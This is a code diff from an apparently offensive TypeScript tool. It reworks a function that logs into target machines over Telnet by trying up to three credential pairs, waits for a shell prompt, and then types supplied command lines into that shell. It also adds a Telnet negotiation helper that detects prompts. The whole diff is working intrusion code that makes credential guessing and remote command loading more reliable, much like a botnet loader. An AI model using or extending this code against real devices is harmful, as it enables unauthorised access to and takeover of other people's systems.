@@ -134,20 +134,67 @@ function upload(client: SshClient, path: string, content: Uint8Array): Promise<v
 
 async function loadOverTelnet(attack: Attack, target: Target, lines: readonly string[]): Promise<void> {
   const socket = await connect(attack, target);
-  socket.resume();
+  const heard = listenToTelnet(socket);
+  let prompts = '';
   for (const [username, password] of attack.credentials.slice(0, 3)) {
-    await pause(attack.typingMs * 2);
+    // A login program throws away what is typed before it asks.
+    prompts = await heard.until(['login: ', '# ', '$ ']);
+    if (prompts !== 'login: ') break;
+    await pause(attack.typingMs);
     socket.write(`${username}\r\n`);
+    await heard.until(['Password: ']);
     await pause(attack.typingMs);
     socket.write(`${password}\r\n`);
-    await pause(attack.typingMs * 6);
   }
+  if (prompts === 'login: ') await heard.until(['# ', '$ ', 'login: ']);
   for (const line of lines) {
     socket.write(`${line}\r\n`);
     await pause(attack.typingMs);
   }
   socket.end();
   await closed(socket);
+}
+
+const [SB, WILL, WONT, DO, IAC] = [250, 251, 252, 253, 255] as const;
+
+/** Agrees to what a Telnet server offers, refuses what it asks (RFC 854), and tells when one of some texts was shown. */
+function listenToTelnet(socket: Socket): { until(texts: readonly string[]): Promise<string> } {
+  let shown = '';
+  let ended = false;
+  let look: () => void = () => {};
+  socket.on('data', (bytes: Buffer) => {
+    const answers: number[] = [];
+    for (let at = 0; at + 2 < bytes.length; at++) {
+      const [first, verb, option = 0] = bytes.subarray(at, at + 3);
+      if (first !== IAC || verb === undefined || verb < SB) continue;
+      if (verb === WILL) answers.push(IAC, DO, option);
+      else if (verb === DO) answers.push(IAC, WONT, option);
+      at += 2;
+    }
+    if (answers.length > 0) socket.write(Buffer.from(answers));
+    shown += bytes.toString('latin1');
+    look();
+  });
+  socket.on('close', () => {
+    ended = true;
+    look();
+  });
+  return {
+    until: (texts) =>
+      new Promise((resolve) => {
+        look = () => {
+          const found = texts
+            .map((text) => ({ text, at: shown.indexOf(text) }))
+            .filter(({ at }) => at >= 0)
+            .toSorted((left, right) => left.at - right.at)[0];
+          if (found === undefined && !ended) return;
+          look = () => {};
+          shown = found === undefined ? '' : shown.slice(found.at + found.text.length);
+          resolve(found?.text ?? '');
+        };
+        look();
+      }),
+  };
 }
 
 async function requestOnce(attack: Attack, target: Target, request: HttpRequest): Promise<void> {
